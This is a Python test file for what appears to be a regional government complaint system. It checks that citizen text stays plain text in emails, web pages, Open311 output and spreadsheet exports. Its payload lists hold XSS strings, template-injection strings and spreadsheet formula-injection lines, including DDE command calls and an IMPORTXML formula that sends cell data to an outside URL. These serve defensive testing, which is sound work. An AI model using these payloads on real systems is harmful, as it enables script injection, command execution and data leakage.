"""Citizen text is data, never code — wherever it travels after intake.

Whatever a citizen, a news feed or a staff member types (markup, template syntax, spreadsheet
formulas, control characters) reaches the leaders' digest, the OPD heads' reminders and overdue
lists, the status page, Open311 and the .xlsx export only as text: escaped in HTML, neutralised
as a formula in the export, and never as a live formula in the sheet.
"""
from __future__ import annotations

import re
from dataclasses import replace
import pytest
from hypothesis import given, settings as hsettings, strategies as st

from functions.bootstrap import build
from functions.config import Settings
from functions.server import make_app
from functions.services.export import export_xlsx
from functions.services.jobs import daily_job, sweep_job
from functions.services.staff import staff_edit
from functions.services.intake import intake
from tests.conftest import complaint
from tests.fakes.clock import FakeClock
from tests.fakes.mailbox import RecordingMailer
from tests.reliability.harness import examples

MARKUP = ['<script>alert("x")</script>', '"><img src=x onerror=alert(1)>', "<a href=javascript:alert(1)>klik</a>",
          "{{ settings.smtp_password }}", "{% for x in range(9) %}x{% endfor %}", "<svg onload=alert(1)>",
          "</textarea><iframe src=//evil.example>"]
FORMULAS = ['=HYPERLINK("http://evil.example","klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")"]
HEADS = {"PUTR": "kadis.putr@ketapangkab.go.id", "DLH": "kadis.dlh@ketapangkab.go.id",
         "TRIASE": "kmc@ketapangkab.go.id", "DISHUB": "kadis.dishub@ketapangkab.go.id"}
BASES = ["Jalan rusak parah di Desa Sandai Kiri", "Sampah menumpuk di Pasar Kota", "Lampu PJU mati di Jalan Merdeka"]

payload = st.sampled_from(MARKUP + FORMULAS)


def live_markup(html: str) -> list[str]:
    """Tags and attributes, as a browser or mail client parses them, that would run or load
    something. Our pages and emails use none (the digest's chart is an inline `cid:` image), so
    any found came from the input unescaped. Escaped input is text, which this never reports."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in {"script", "iframe", "svg", "object", "embed"}:
                found.append(f"<{tag}>")
            for name, value in attrs:
                value = (value or "").strip().lower()
                if name.startswith("on"):
                    found.append(f"<{tag} {name}=>")
                if name in {"href", "src", "action"} and value.startswith(("javascript:", "data:")):
                    found.append(f"<{tag} {name}={value[:20]}>")
                if tag == "img" and name == "src" and not value.startswith("cid:"):
                    found.append(f"<img src={value[:20]}>")

    Parser().feed(html)
    return found


@hsettings(max_examples=examples(8, 60), deadline=None)
@given(texts=st.lists(st.tuples(st.sampled_from(BASES), payload), min_size=1, max_size=3),
       answer=payload, where=st.sampled_from(["before", "after", "only"]))
def test_markup_and_formulas_travel_as_text_through_mail_pages_and_export(tmp_path_factory, schema, clock, texts,
                                                                         answer, where):
    start = FakeClock(clock())
    mailer = RecordingMailer()
    opds = tuple(replace(o, head_email=HEADS.get(o.key, "")) for o in schema.opds)
    data = tmp_path_factory.mktemp("inj")
    svc = build(Settings.from_env({"KMC_DATA_DIR": str(data), "DIGEST_TO": "bupati@ketapangkab.go.id",
                                   "KMC_ADMIN_TOKEN": "t"}),
                clock=start, schema=replace(schema, opds=opds), mailer=mailer)
    svc.workbook.bootstrap()
    tickets = []
    for i, (base, bad) in enumerate(texts):
        text = {"before": f"{bad} {base}", "after": f"{base} {bad}", "only": f"{bad}"}[where]
        tickets.append(intake(svc, complaint(text, start, name=f"Warga {bad}", source_id=f"m{i}")).ticket_id)
    staff_edit(svc.workbook, svc.schema, tickets[0], ["status=Diproses", f"response={answer}",
                                                      f"responder={answer}"], "KMC")
    start.advance(hours=40)
    sweep_job(svc)  # reminders to the heads of OPDs with cases close to the deadline
    start.advance(hours=20)
    daily_job(svc)  # the digest and the per-OPD overdue lists

    assert mailer.sent, "no email was produced"
    for mail in mailer.sent:
        assert live_markup(mail.html) == [], (mail.tag, live_markup(mail.html))
        assert "xxxxxxxxx" not in mail.text + mail.html  # template syntax in the input is never evaluated
    client = make_app(svc).test_client()
    for ticket in tickets:
        for url in (f"/form/status?tiket={ticket}", f"/open311/v2/requests/{ticket}.xml"):
            page = client.get(url).get_data(as_text=True)
            assert live_markup(page) == [], (url, live_markup(page))

    out = data / "export.xlsx"
    export_xlsx(svc.workbook, svc.schema, out)
    from openpyxl import load_workbook

    for ws in load_workbook(out).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and re.match(r"^[=+\-@\t\r]", cell.value):
                    # text as typed, marked as text (quotePrefix), never an apostrophe added (issue 16, item 23)
                    assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}: {cell.value!r}"


@pytest.mark.parametrize("bad", [m for m in MARKUP if "<" in m])
def test_the_detector_sees_live_markup(bad):
    """The check above is only as good as its parser: raw markup is caught, escaped markup is not."""
    import html

    assert live_markup(f"<p>Aduan: {bad}</p>") and not live_markup(f"<p>Aduan: {html.escape(bad)}</p>")


@pytest.mark.parametrize("bad", MARKUP)
def test_the_form_reshows_typed_markup_as_text(bad, svc):
    from tests.entrypoints.test_web_form import Browser, filled

    browser = Browser(make_app(svc))
    reply = browser.submit(**filled(isi=bad, nama=bad, desa=bad))  # too short or fine: shown back either way
    page = reply.get_data(as_text=True)
    assert reply.status_code in (200, 422) and live_markup(page) == []
    assert reply.headers["Content-Security-Policy"].startswith("default-src 'none'")


def test_a_staff_answer_with_markup_reaches_the_citizen_as_plain_text(svc, clock):
    """The answer goes to WhatsApp as text; the public status page shows it escaped."""
    ticket = intake(svc, complaint("Jalan rusak parah di Desa Sandai Kiri", clock, source_id="x1")).ticket_id
    staff_edit(svc.workbook, svc.schema, ticket, ["status=Selesai", f"response={MARKUP[0]}"], "KMC")
    clock.advance(minutes=15)
    sweep_job(svc)
    page = make_app(svc).test_client().get(f"/form/status?tiket={ticket}").get_data(as_text=True)
    assert "&lt;script&gt;" in page and live_markup(page) == []
